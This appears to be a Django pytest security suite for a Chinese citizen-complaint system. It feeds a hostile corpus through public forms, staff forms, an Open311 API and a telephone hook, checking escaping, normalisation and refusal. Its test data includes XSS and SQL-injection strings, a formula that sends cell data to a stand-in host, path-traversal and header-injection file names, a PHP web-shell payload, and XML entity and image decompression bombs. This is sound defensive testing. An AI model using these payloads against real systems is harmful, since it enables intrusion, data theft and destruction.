"""Issue 16, done-when: a hostile corpus sent to every public and staff form and API field.
Each answer is below 500; a refused request stores nothing (no appeal, no event, no key); what
is stored is normalised (core/text.py); and what is shown is escaped or neutralised: in HTML
(staff and public pages), JSON and XML (Open311), Excel (core/sheets.cell_safe) and PDF text.

One test per entry path, looping over the corpus (a district per test, not per string), so the
whole file stays within seconds; run it on PostgreSQL too (DATABASE_URL)."""

import json
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from minxin.cases.models import Appeal, AppealEvent
from minxin.cases.workflow import AppealStatus
from minxin.core.sheets import cell_safe, pdf_text, row_safe
from minxin.core.text import text_normalise
from minxin.metrics.exports import ledger_row
from minxin.open311.models import IdempotencyKey, Open311Request
from minxin.open311.services import api_key_create
from minxin.suggestions.models import Suggestion, SuggestionField
from tests.builders import District, appeal_in

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
TEMPLATE = "{{ request.user }}{% debug %}${7*7}#{7*7}"
SQL = "' OR 1=1; DROP TABLE cases_appeal; --"
INVISIBLE = "维修\x00\u202egpj.exe\u200b\ufeff\x1b"
GB18030 = "𠀀䶮𡃁〇"  # outside GBK: CJK ext. A and B
FORMULA = '=HYPERLINK("http://e.vil/?"&A2,"详情")'
CORPUS = [XSS, TEMPLATE, SQL, INVISIBLE, GB18030, FORMULA, "+1-2", "@SUM(A1)", "-1"]
HUGE = "长" * (1024 * 1024)  # 1 MB of characters: always over a field's limit
PHONE = "13812345678"


@contextmanager
def _stored_or_nothing(before: int) -> Iterator[list[object]]:
    """The response goes in the list; then: < 500, and a refusal stored nothing."""
    box: list[object] = []
    events = AppealEvent.objects.count()
    yield box
    response = box[0]
    status = response.status_code  # type: ignore[attr-defined]
    assert status < 500, status
    if status >= 400:
        assert Appeal.objects.count() == before
        assert AppealEvent.objects.count() == events


def _clean(appeal: Appeal) -> None:
    for text in (appeal.title, appeal.content, appeal.place_text, appeal.appellant_name):
        assert text_normalise(text) == text


def _escaped(html: str) -> None:
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "\x00" not in html and "\u202e" not in html


def _shown_safely(client: Client, district: District, appeal: Appeal) -> None:
    """The appeal's text on the staff page, in the ledger, and as PDF text."""
    _clean(appeal)
    staff = Client()
    staff.force_login(district.user("dispatcher"))
    page = staff.get(reverse("cases:appeal_detail", args=[appeal.pk]))
    assert page.status_code == 200
    _escaped(page.content.decode())
    for cell in row_safe(ledger_row(appeal)):
        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "<" not in pdf_text(appeal.title)


@pytest.mark.parametrize("field", ["title", "content", "place_text", "appellant_name"])
def test_citizen_form(client: Client, district: District, field: str) -> None:
    for value in [*CORPUS, HUGE]:
        form = {"kind": "complaint", "title": "路灯", "content": "路灯", "appellant_phone": PHONE}
        form[field] = value
        before = Appeal.objects.count()
        with _stored_or_nothing(before) as box:
            box.append(response := client.post(reverse("citizen:submit"), form))
        if response.status_code == 302:
            _shown_safely(client, district, Appeal.objects.latest("id"))
        else:
            _escaped(response.content.decode())  # the form again, with what was typed


@pytest.mark.parametrize("field", ["title", "content", "nickname"])
def test_board_form(client: Client, district: District, field: str) -> None:
    for value in [*CORPUS, HUGE]:
        form = {"kind": "complaint", "title": "路灯", "content": "路灯不亮", "nickname": "居民"}
        form[field] = value
        with _stored_or_nothing(Appeal.objects.count()) as box:
            box.append(response := client.post(reverse("board:post_new"), form))
        if response.status_code == 302:
            _shown_safely(client, district, Appeal.objects.latest("id"))
        else:
            _escaped(response.content.decode())


@pytest.mark.parametrize("field", ["title", "content", "place_text", "appellant_name"])
def test_hotline_console(client: Client, district: District, field: str) -> None:
    client.force_login(district.user("call_taker"))
    for value in [*CORPUS, HUGE]:
        form = {
            "kind": "complaint",
            "urgency": "normal",
            "title": "路灯",
            "content": "路灯不亮",
            "appellant_phone": PHONE,
        }
        form[field] = value
        with _stored_or_nothing(Appeal.objects.count()) as box:
            box.append(response := client.post(reverse("intake:hotline"), form))
        if response.status_code == 302:
            _shown_safely(client, district, Appeal.objects.latest("id"))
        else:
            _escaped(response.content.decode())


def test_a_handlers_note_and_a_citizens_rating_comment(client: Client, district: District):
    appeal = appeal_in(district, AppealStatus.IN_PROGRESS)
    handler = Client()
    handler.force_login(district.user("handler"))
    url = reverse("cases:appeal_act", args=[appeal.pk, "note"])
    for value in [*CORPUS, HUGE]:
        version = Appeal.objects.get(pk=appeal.pk).version
        with _stored_or_nothing(Appeal.objects.count()) as box:
            box.append(response := handler.post(url, {"version": version, "reason": value}))
        _escaped(handler.get(reverse("cases:appeal_detail", args=[appeal.pk])).content.decode())
        if response.status_code >= 400:
            assert Appeal.objects.get(pk=appeal.pk).version == version
    for reason in AppealEvent.objects.filter(appeal=appeal).values_list("reason", flat=True):
        assert text_normalise(reason) == reason

    resolved = appeal_in(district, AppealStatus.RESOLVED)
    client.post(
        reverse("citizen:track"),
        {"tracking_number": resolved.tracking_number, "query_code": resolved.query_code},
    )
    rate = reverse("citizen:rate", args=[resolved.tracking_number])
    for value in [HUGE, *CORPUS]:  # the first that is accepted rates the appeal
        version = Appeal.objects.get(pk=resolved.pk).version
        response = client.post(
            rate, {"satisfaction": "satisfied", "comment": value, "version": version}
        )
        assert response.status_code < 500
    page = client.get(reverse("citizen:track_detail", args=[resolved.tracking_number]))
    _escaped(page.content.decode())


@pytest.mark.parametrize("field", ["title", "content", "proposer_name"])
def test_suggestion_form(client: Client, district: District, field: str) -> None:
    for value in [*CORPUS, HUGE]:
        form = {
            "field": SuggestionField.values[0],
            "title": "建议",
            "content": "增设公交站",
            "proposer_phone": PHONE,
        }
        form[field] = value
        before = Suggestion.objects.count()
        response = client.post(reverse("suggestions:submit"), form)
        assert response.status_code < 500
        if response.status_code >= 400:
            assert Suggestion.objects.count() == before
            _escaped(response.content.decode())
    for s in Suggestion.objects.all():
        assert text_normalise(s.title) == s.title and text_normalise(s.content) == s.content


# --- Open311 --------------------------------------------------------------------------------


def _feed_safe(client: Client, number: str) -> None:
    body = client.get(f"/open311/v2/requests/{number}.json")
    assert body.status_code == 200
    assert json.loads(body.content)[0]["service_request_id"] == number
    assert "\x00" not in body.content.decode() and "\u202e" not in body.content.decode()
    root = ET.fromstring(client.get(f"/open311/v2/requests/{number}.xml").content)  # noqa: S314
    assert root.find("request/service_request_id").text == number  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "field", ["description", "address_string", "last_name", "first_name", "media_url"]
)
def test_open311_fields(client: Client, district: District, field: str) -> None:
    key = api_key_create(name="客户端")[1]
    for value in [*CORPUS, HUGE[:70_000]]:
        data = {
            "api_key": key,
            "service_code": str(district.category.pk),
            "address_string": "北门",
            "description": "垃圾",
            field: value,
        }
        for kind in ("json", "form"):
            before = Appeal.objects.count()
            with _stored_or_nothing(before) as box:
                if kind == "json":
                    response = client.post(
                        "/open311/v2/requests.json",
                        json.dumps(data),
                        content_type="application/json",
                    )
                else:
                    response = client.post("/open311/v2/requests.json", data)
                box.append(response)
            json.loads(response.content)  # always a JSON document, errors included
            if response.status_code == 200:
                assert Open311Request.objects.count() == Appeal.objects.count()
                _feed_safe(client, response.json()[0]["service_request_id"])
                _clean(Appeal.objects.latest("id"))


@pytest.mark.parametrize(
    ("body", "content_type", "status"),
    [
        (b'{"service_code": ', "application/json", 400),
        (b"[1, 2]", "application/json", 400),
        (b'{"description": {"nested": [1]}}', "application/json", 400),
        (b"[" * 60_000, "application/json", 400),  # deep nesting: not a RecursionError
        (b'{"lat": 1e999, "long": 1}', "application/json", 400),
        (b'{"a": "' + b"x" * 70_000 + b'"}', "application/json", 413),
        (b"\xff\xfe\x00\x01", "application/json", 400),
        (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
            b"<r>&b;</r>",
            "text/xml",
            415,
        ),
        (b"<service_request><description>x</description>", "application/xml", 415),
        ("description=𠀀䶮&service_code=1".encode("gb18030"), "text/plain", 415),
    ],
)
def test_open311_malformed_bodies(client: Client, district: District, body, content_type, status):
    key = api_key_create(name="客户端")[1]
    response = client.post(
        f"/open311/v2/requests.json?api_key={key}", body, content_type=content_type
    )
    assert response.status_code == status, response.content[:200]
    assert not Appeal.objects.exists() and not IdempotencyKey.objects.exists()
    json.loads(response.content)


def test_open311_accepts_gb18030(client: Client, district: District) -> None:
    key = api_key_create(name="客户端")[1]
    code = district.category.pk
    body = f"api_key={key}&service_code={code}&description={GB18030}&lat=28&long=112"
    response = client.post(
        "/open311/v2/requests.json",
        body,  # the client encodes it in the declared charset
        content_type="application/x-www-form-urlencoded; charset=gb18030",
    )
    assert response.status_code == 200
    assert Appeal.objects.get().content == GB18030


def test_the_ledger_neutralises_formulas() -> None:
    assert cell_safe(text_normalise("\u200b" + FORMULA)) == "'" + FORMULA


def test_project_rating_comments(client: Client, district: District) -> None:
    from minxin.core.errors import MinxinError
    from minxin.projects.models import ProjectRating, Verdict
    from minxin.projects.verdict import project_rate
    from tests.projects.ratings import phone, project_at

    project = project_at(district, "accepted")
    for n, value in enumerate([HUGE, *CORPUS]):
        before = ProjectRating.objects.count()
        try:
            project_rate(
                project_id=project.pk,
                phone_hash=phone(n),
                verdict=Verdict.SATISFIED,
                comment=value,
            )
        except MinxinError:
            assert ProjectRating.objects.count() == before
    for comment in ProjectRating.objects.values_list("comment", flat=True):
        assert text_normalise(comment) == comment
    client.force_login(district.user("supervisor"))
    page = client.get(reverse("projects:project_detail", args=[project.pk]))
    assert page.status_code == 200
    _escaped(page.content.decode())


# --- photos through the public forms ----------------------------------------------------------


def _exif_jpeg() -> bytes:
    """A phone's photo: GPS position, camera and owner in its EXIF."""
    import io

    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x013B] = "张三"  # Artist
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPS
    out = io.BytesIO()
    Image.new("RGB", (40, 20), (10, 120, 200)).save(out, format="JPEG", exif=exif)
    return out.getvalue()


def _photos_clean(appeal: Appeal) -> None:
    """Every stored photo of the appeal was re-encoded: no GPS, camera or owner left."""
    from PIL import Image

    from minxin.cases.models import Attachment

    stored = Attachment.objects.filter(appeal=appeal)
    assert stored.exists()
    for attachment in stored:
        with attachment.file.open("rb") as f:
            exif = Image.open(f).getexif()
        assert not {0x8825, 0x010F, 0x013B} & set(exif)


def _hostile_photos() -> list[tuple[str, object]]:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.uploads import bomb_png_upload, fake_jpg_upload, polyglot_gif_upload

    return [
        ("bomb", bomb_png_upload()),
        ("fake", fake_jpg_upload()),
        ("GIF signature and a script", polyglot_gif_upload()),
        ("empty", SimpleUploadedFile("x.png", b"", content_type="image/png")),
        ("exif", SimpleUploadedFile("phone.jpg", _exif_jpeg(), content_type="image/jpeg")),
    ]


def test_photos_on_the_citizen_form_and_the_board(
    client: Client, district: District, settings, tmp_path
) -> None:
    settings.MEDIA_ROOT = tmp_path
    forms = {
        "citizen:submit": {
            "kind": "complaint",
            "title": "路灯",
            "content": "路灯不亮",
            "appellant_phone": PHONE,
        },
        "board:post_new": {
            "kind": "complaint",
            "title": "路灯",
            "content": "路灯不亮",
            "nickname": "居民",
        },
    }
    for name, form in forms.items():
        for n, (kind, photo) in enumerate(_hostile_photos()):
            before = Appeal.objects.count()
            with _stored_or_nothing(before) as box:
                box.append(
                    response := client.post(
                        reverse(name),
                        {**form, "content": f"路灯不亮{n}{name}", "photos": [photo]},
                    )
                )
            if kind == "exif":
                assert response.status_code == 302, (name, response.status_code)
                _photos_clean(Appeal.objects.latest("id"))
            else:
                assert response.status_code == 400, (name, kind, response.status_code)
                _escaped(response.content.decode())


def test_photos_on_the_citizens_supplement(
    client: Client, district: District, settings, tmp_path
) -> None:
    from minxin.cases.models import Supplement

    settings.MEDIA_ROOT = tmp_path
    appeal = appeal_in(district, AppealStatus.SUSPENDED)
    client.post(
        reverse("citizen:track"),
        {"tracking_number": appeal.tracking_number, "query_code": appeal.query_code},
    )
    url = reverse("citizen:supplement", args=[appeal.tracking_number])
    for n, (kind, photo) in enumerate(_hostile_photos()):
        appeal.refresh_from_db()
        response = client.post(
            url,
            {
                "content": "是3栋2单元门口",
                "submission_key": f"{n:032x}",
                "version": appeal.version,
                "photos": [photo],
            },
        )
        assert response.status_code < 500, (kind, response.status_code)
        if kind == "exif":
            assert response.status_code == 302
            _photos_clean(appeal)
        else:
            assert response.status_code == 400, (kind, response.status_code)
            assert not Supplement.objects.exists()
            _escaped(response.content.decode())


# --- the telephone exchange's hook (CTI) ------------------------------------------------------


@pytest.mark.parametrize(
    "field", ["callId", "from", "to", "user", "cause", "answeringNumber", "recordingUrl", "event"]
)
def test_cti_hook_fields(client: Client, district: District, field: str) -> None:
    from minxin.cti.models import Call, CallEvent
    from minxin.cti.services import pbx_create

    _, token = pbx_create(name="交换机", recording_prefix="https://pbx.example.gov.cn/rec/")
    auth = {"Authorization": f"Bearer {token}"}
    for n, value in enumerate([*CORPUS, HUGE[:15_000]]):
        params = {
            "event": "newCall",
            "callId": f"c-{n}",
            "direction": "in",
            "from": PHONE,
            "to": "12345",
            "user": "call_taker",
            field: value,
        }
        for kind in ("json", "form"):
            calls, events = Call.objects.count(), CallEvent.objects.count()
            if kind == "json":
                response = client.post(
                    "/cti/hook", json.dumps(params), content_type="application/json", headers=auth
                )
            else:
                response = client.post("/cti/hook", params, headers=auth)
            assert response.status_code < 500, (field, value[:40], response.status_code)
            json.loads(response.content)
            if response.status_code >= 400:
                assert (Call.objects.count(), CallEvent.objects.count()) == (calls, events)
    for call in Call.objects.all():
        for text in (call.call_id, call.phone, call.line, call.agent_name, call.recording_url):
            assert text_normalise(text) == text, text[:40]


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b'{"event": ', 400),
        (b"[1, 2]", 400),
        (b'{"event": {"nested": [1]}}', 400),
        (b"[" * 15_000, 400),  # deep nesting within the size limit: not a RecursionError
        (b'{"a": "' + b"x" * 20_000 + b'"}', 400),  # over the hook's 16 KB
        (b"\xff\xfe\x00\x01", 400),
    ],
)
def test_cti_hook_malformed_bodies(client: Client, district: District, body, status) -> None:
    from minxin.cti.models import Call
    from minxin.cti.services import pbx_create

    _, token = pbx_create(name="交换机", recording_prefix="https://pbx.example.gov.cn/rec/")
    response = client.post(
        "/cti/hook",
        body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == status, response.content[:200]
    assert not Call.objects.exists()
    json.loads(response.content)


# --- photos through the staff forms: a reply (办结答复) and an order's answer (督办答复) ----------

REPLY = "经现场核查，已于本周三完成路灯维修，恢复正常照明，感谢您的反映。"
WRONG_TYPE = "只能上传 JPG、PNG、WEBP 或 GIF 格式的照片"
TOO_LARGE = "照片尺寸过大"
# Django's own refusal of a form it cannot parse (more files than DATA_UPLOAD_MAX_NUMBER_FILES,
# a broken multipart body): core.views.bad_request.
UNREADABLE = "提交的内容无法处理"


@dataclass
class _StaffForm:
    """A staff form with photos, on a fresh subject: where it posts, what else it sends, and
    what a refusal must leave as it was."""

    client: Client
    url: str
    fields: dict[str, str]
    folder: str  # where an accepted photo is stored, under MEDIA_ROOT
    state: Callable[[], tuple[object, ...]]  # status, version, events, rows written
    stored: Callable[[], list[str]]  # the names of the photos stored with it


def _reply_form(district: District) -> _StaffForm:
    from minxin.cases.models import Attachment, Reply
    from minxin.notify.models import Notification

    appeal = appeal_in(district, AppealStatus.IN_PROGRESS)
    handler = Client()
    handler.force_login(district.user("handler"))

    def state() -> tuple[object, ...]:
        now = Appeal.objects.get(pk=appeal.pk)
        return (
            now.status,
            now.version,
            AppealEvent.objects.filter(appeal=now).count(),
            Reply.objects.filter(appeal=now).count(),
            Attachment.objects.filter(appeal=now).count(),
            Notification.objects.count(),
        )

    return _StaffForm(
        client=handler,
        url=reverse("cases:appeal_act", args=[appeal.pk, "resolve"]),
        fields={"version": str(appeal.version), "reason": REPLY},
        folder="appeals/",
        state=state,
        stored=lambda: [a.file.name for a in Attachment.objects.filter(appeal=appeal)],
    )


def _answer_form(district: District) -> _StaffForm:
    from datetime import timedelta

    from django.utils import timezone

    from minxin.notify.models import Notification
    from minxin.supervision.models import (
        SupervisionOrder,
        SupervisionOrderEvent,
        SupervisionOrderPhoto,
    )
    from minxin.supervision.services import supervision_order_issue

    order = supervision_order_issue(
        actor=district.user("supervisor"),
        appeal_id=appeal_in(district, AppealStatus.IN_PROGRESS).pk,
        content="请三日内完成清运并反馈",
        due_at=timezone.now() + timedelta(days=2),
    )
    handler = Client()
    handler.force_login(district.user("handler"))

    def state() -> tuple[object, ...]:
        now = SupervisionOrder.objects.get(pk=order.pk)
        return (
            now.status,
            now.version,
            now.answer,
            SupervisionOrderEvent.objects.filter(order=now).count(),
            SupervisionOrderPhoto.objects.filter(order=now).count(),
            Notification.objects.count(),
        )

    return _StaffForm(
        client=handler,
        url=reverse("supervision:order_answer", args=[order.pk]),
        fields={"answer": "已于周三完成垃圾清运，并安排专人每日巡查，现场照片附后。"},
        folder="supervision/orders/",
        state=state,
        stored=lambda: [p.image.name for p in SupervisionOrderPhoto.objects.filter(order=order)],
    )


STAFF_FORMS = {"reply": _reply_form, "order_answer": _answer_form}


def _hostile_staff_photos() -> list[tuple[str, Callable[[], Sequence[object]], str]]:
    """(what, the files, the Chinese refusal): each refused whole, nothing kept of it."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.uploads import (
        big_png_upload,
        bomb_jpeg_upload,
        bomb_png_upload,
        fake_jpg_upload,
        png_upload,
        polyglot_gif_upload,
        svg_upload,
        truncated_jpeg_upload,
    )

    return [
        ("text renamed .jpg", lambda: [fake_jpg_upload()], WRONG_TYPE),
        ("truncated JPEG", lambda: [truncated_jpeg_upload()], WRONG_TYPE),
        ("PNG bomb 20000×20000", lambda: [bomb_png_upload()], TOO_LARGE),
        ("PNG 12000×12000", lambda: [bomb_png_upload((12000, 12000))], TOO_LARGE),
        ("PNG 7200×7200", lambda: [bomb_png_upload((7200, 7200))], "照片尺寸过大（7200×7200）"),
        ("JPEG claiming 60000×60000", lambda: [bomb_jpeg_upload()], TOO_LARGE),
        ("over 5 MB", lambda: [big_png_upload()], "照片不能超过5MB"),
        ("empty", lambda: [SimpleUploadedFile("x.png", b"", content_type="image/png")], "为空"),
        ("SVG with a script", lambda: [svg_upload()], WRONG_TYPE),
        ("SVG named .jpg", lambda: [svg_upload("photo.jpg")], WRONG_TYPE),
        ("GIF signature and a script", lambda: [polyglot_gif_upload()], WRONG_TYPE),
        ("a good photo then a bad one", lambda: [png_upload(), fake_jpg_upload()], WRONG_TYPE),
        ("seven photos", lambda: [png_upload(f"{n}.png") for n in range(7)], "照片最多6张"),
        ("101 files", lambda: [png_upload(f"{n}.png") for n in range(101)], UNREADABLE),
    ]


def _media_files(media: Path) -> set[Path]:
    return {p for p in media.rglob("*") if p.is_file()}


def _refused(
    form: _StaffForm, response: object, messages: tuple[str, ...], media: Path, before
) -> None:
    """A 4xx with one of the Chinese `messages`, and everything as it was `before`."""
    status = response.status_code  # type: ignore[attr-defined]
    html = response.content.decode()  # type: ignore[attr-defined]
    assert 400 <= status < 500, status
    assert any(message in html for message in messages), html[html.find("<main") :][:400]
    _escaped(html)
    assert form.state() == before[0]
    assert _media_files(media) == before[1]


@pytest.mark.parametrize("which", STAFF_FORMS)
def test_hostile_staff_photos_are_refused_whole(
    district: District, settings, tmp_path: Path, which: str
) -> None:
    """A text file renamed .jpg, a truncated JPEG, decompression bombs, a file over the size
    limit, too many files, SVG with a script: a 4xx with the Chinese reason, the appeal or the
    order as it was (status, version, events), no row and no file written."""
    settings.MEDIA_ROOT = tmp_path
    settings.MINXIN_PHOTO_MAX_COUNT = 6
    form = STAFF_FORMS[which](district)
    for what, files, message in _hostile_staff_photos():
        before = (form.state(), _media_files(tmp_path))
        response = form.client.post(form.url, {**form.fields, "photos": files()})
        try:
            _refused(form, response, (message,), tmp_path, before)
        except AssertionError as failure:
            raise AssertionError(f"{which}: {what}: {failure}") from failure
    # The same form with a genuine photo goes through: the refusals were about the files.
    from tests.uploads import png_upload

    response = form.client.post(form.url, {**form.fields, "photos": [png_upload()]})
    assert response.status_code == 302, response.content.decode()[:300]
    assert len(form.stored()) == 1


# Names as a browser or a script may send them in the multipart header. Django's parser keeps
# only the last path component and the printable characters; cases.photos keeps at most 40
# characters of the stem and adds its own suffix; the storage keeps [-\w.] of that.
HOSTILE_NAMES = [
    "../../../../etc/cron.d/minxin.jpg",
    "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts.jpg",
    "&#46;&#46;&#47;&#46;&#46;&#47;settings.jpg",
    "%2e%2e%2f%2e%2e%2fsettings.jpg",
    "/var/lib/minxin/media/appeals/someone-else.jpg",
    "现场\x00.jpg.php",
    "\u202egpj.exe",
    "a\x1b[31m\x07\x08\x7fb.jpg",
    "\u200b\ufeff\u2028.jpg",
    "<script>alert(1)</script>.jpg",
    "CON.jpg",
    "x" * 3000 + ".jpg",
    'x.jpg"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
]


def _multipart(fields: dict[str, str], name: str, data: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand: the test client would clean the file's name."""
    boundary = "minxin-hostile-boundary-7b3f"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    parts.append(
        f"--{boundary}\r\nContent-Disposition: form-data; "
        f'name="photos"; filename="{name}"\r\nContent-Type: image/png\r\n\r\n'.encode()
        + data
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def _stored_safely(name: str, folder: str, media: Path) -> None:
    """Under its folder in MEDIA_ROOT, a name of word characters, dashes and dots only."""
    import re

    assert name.startswith(folder), name
    assert re.fullmatch(r"[-\w./]+", name) and ".." not in Path(name).parts, name
    assert text_normalise(name) == name and len(Path(name).name) <= 100, name
    path = (media / name).resolve()
    assert path.is_relative_to(media.resolve()) and path.is_file(), name


@pytest.mark.parametrize("which", STAFF_FORMS)
def test_hostile_photo_names_on_staff_forms(
    district: District, settings, tmp_path: Path, which: str
) -> None:
    """A name with a path or control characters never chooses where a photo goes. Django's
    parser drops the path and the control characters before any view sees the name, so a
    genuine photo so named is kept, re-encoded, under a clean name in its folder (or the whole
    form is refused); a non-image so named is refused like any other, nothing kept. A name
    too long for the part's header (3000 characters) is refused by Django's parser, in Chinese
    too (core.views.bad_request)."""
    from tests.uploads import png

    settings.MEDIA_ROOT = tmp_path
    for name in HOSTILE_NAMES:
        form = STAFF_FORMS[which](district)
        before = (form.state(), _media_files(tmp_path))
        body, content_type = _multipart(form.fields, name, b"<?php system($_GET['c']); ?>")
        response = form.client.post(form.url, body, content_type=content_type)
        try:
            _refused(form, response, (WRONG_TYPE, UNREADABLE), tmp_path, before)
        except AssertionError as failure:
            raise AssertionError(f"{which}: {name[:60]!r}: {failure}") from failure

        body, content_type = _multipart(form.fields, name, png())
        response = form.client.post(form.url, body, content_type=content_type)
        assert response.status_code < 500, (name[:60], response.status_code)
        if response.status_code == 302:
            (stored,) = form.stored()
            _stored_safely(stored, form.folder, tmp_path)
        else:
            _refused(form, response, (WRONG_TYPE, UNREADABLE), tmp_path, before)
